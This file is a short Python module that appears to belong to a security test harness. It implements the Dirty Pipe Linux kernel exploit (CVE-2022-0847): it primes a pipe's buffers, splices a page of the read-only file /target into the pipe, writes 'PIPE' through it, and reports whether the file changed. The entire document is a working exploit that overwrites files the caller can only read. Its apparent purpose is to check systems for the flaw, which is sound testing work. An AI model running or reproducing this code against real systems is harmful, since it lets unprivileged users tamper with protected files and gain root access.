# SPDX-License-Identifier: Apache-2.0
"""CVE-2022-0847: a page of a file spliced into a pipe is written through the pipe."""
import os


def splice():
    before = open("/target", "rb").read()
    r, w = os.pipe()
    for _ in range(16):
        os.write(w, bytes(4096))
    for _ in range(16):
        os.read(r, 4096)
    fd = os.open("/target", os.O_RDONLY)
    os.splice(fd, w, 1, offset_src=0)
    os.write(w, b"PIPE")
    return open("/target", "rb").read() != before


def attack(a):
    a.step("splice and write", splice)
